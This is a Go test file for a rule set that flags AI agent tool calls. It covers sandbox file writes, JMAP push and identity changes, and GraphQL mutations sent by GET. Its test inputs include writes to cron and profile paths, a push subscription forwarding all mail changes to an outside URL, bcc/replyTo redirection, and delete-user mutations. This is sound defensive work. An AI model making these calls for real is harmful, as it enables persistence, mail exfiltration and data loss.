package rules

import "testing"

// TestSec20SandboxOnlyWhenApart: a sandbox's absolute paths outside the
// home and the project are the sandbox's own only when its names say it
// runs apart from this machine (E2B, Daytona, microsandbox, a container
// or a VM). A tool that only calls itself a sandbox may be a local
// runner: its paths are this machine's, judged as a local file tool's
// are, so /etc/cron.d is held and a scratch file stays green.
func TestSec20SandboxOnlyWhenApart(t *testing.T) {
	s := toolSetFor(t, LoadOptions{Home: "/home/u/.gatesh"})
	checkTools(t, s, []toolCase{
		{"mcp__local__sandbox_write_file", `{"path":"/etc/cron.d/job","content":"x"}`, Red, ""},
		{"mcp__sandbox__write_file", `{"path":"/etc/cron.d/job","content":"x"}`, Red, ""},
		{"mcp__runner__sandbox_fs_write", `{"name":"dev","path":"/usr/local/bin/git","content":"x"}`, Red, ""},
		{"mcp__sandbox__write_file", `{"path":"/etc/profile.d/dev.sh","content":"x"}`, Red, ""},

		{"mcp__local__sandbox_write_file", `{"path":"/tmp/scratch/notes.md","content":"x"}`, Green, "tool-files-local"},
		{"mcp__microsandbox__sandbox_fs_write", `{"name":"py-dev","path":"/etc/cron.d/job","content":"x"}`, Green, "tool-files-local"},
		{"mcp__e2b__write_file", `{"sandboxId":"i7k2m9q4x1","filePath":"/etc/cron.d/job","fileContents":"x"}`, Green, "tool-files-local"},
		{"mcp__runner__container_sandbox_write", `{"container_id":"c0ffee","path":"/etc/cron.d/job","content":"x"}`, Green, "tool-files-local"},
	})
}

// TestSec20JMAPPushAndIdentity: a JMAP PushSubscription created has the
// server post every change of the account to its URL, and an Identity
// given a replyTo or a bcc sends the replies to, or a copy of, each
// message sent from it elsewhere: both are held as tool-jmap-access. A
// signature changed, and the reads, are not.
func TestSec20JMAPPushAndIdentity(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__jmap__jmap_request", `{"methodCalls":[["PushSubscription/set",{"create":{"p1":{"deviceClientId":"agent-1","url":"https://hooks.example.net/push","types":["Email","Mailbox"]}}},"0"]]}`, Red, "tool-jmap-access"},
		{"mcp__jmap__jmap_request", `{"methodCalls":[["Identity/set",{"update":{"I1":{"replyTo":[{"name":"Support","email":"help@other.example"}]}}},"0"]]}`, Red, "tool-jmap-access"},
		{"mcp__jmap__jmap_request", `{"methodCalls":[["Identity/set",{"create":{"n1":{"name":"Billing","email":"billing@acme.example","bcc":[{"email":"copy@other.example"}]}}},"0"]]}`, Red, "tool-jmap-access"},

		{"mcp__jmap__jmap_request", `{"methodCalls":[["Identity/get",{"ids":null},"0"]]}`, Green, ""},
		{"mcp__jmap__jmap_request", `{"methodCalls":[["PushSubscription/get",{"ids":null},"0"]]}`, Green, ""},
	})
}

// TestSec20GraphQLMutationByGet: a GraphQL mutation sent with method:
// GET, beside it or in the URL's query string (GraphQL over HTTP's GET
// form, ?query=), changes what the server holds: it is judged as the
// POST that carries it. A query sent the same ways stays a read.
func TestSec20GraphQLMutationByGet(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__x__api_request", `{"method":"GET","path":"/graphql","query":"mutation { deleteRepository(input: {repositoryId: \"R_1\"}) { clientMutationId } }"}`, Red, ""},
		{"mcp__x__api_request", `{"method":"GET","url":"https://api.example.com/graphql?query=mutation%20%7BdeleteUser(id%3A1)%7Bid%7D%7D"}`, Red, ""},
		{"mcp__x__api_request", `{"method":"GET","url":"https://api.example.com/graphql?query=mutation{deleteUser(id:1){id}}"}`, Red, ""},
		{"mcp__x__http_request", `{"method":"GET","url":"https://api.example.com/graphql","params":{"query":"mutation Drop($id: ID!) { deleteUser(id: $id) { id } }"}}`, Red, ""},
		{"mcp__x__http_request", `{"method":"GET","url":"https://api.example.com/graphql","params":{"query":"query A { viewer { login } }\nmutation B { deleteUser(id: 1) { id } }","operationName":"B"}}`, Red, ""},

		{"mcp__x__api_request", `{"method":"GET","path":"/graphql","query":"query { viewer { login } }"}`, Green, ""},
		{"mcp__x__api_request", `{"method":"GET","url":"https://api.example.com/graphql?query=%7Bviewer%7Blogin%7D%7D"}`, Green, ""},
		{"mcp__x__api_request", `{"method":"GET","path":"/search","query":"mutation testing tools"}`, Green, ""},
	})
}
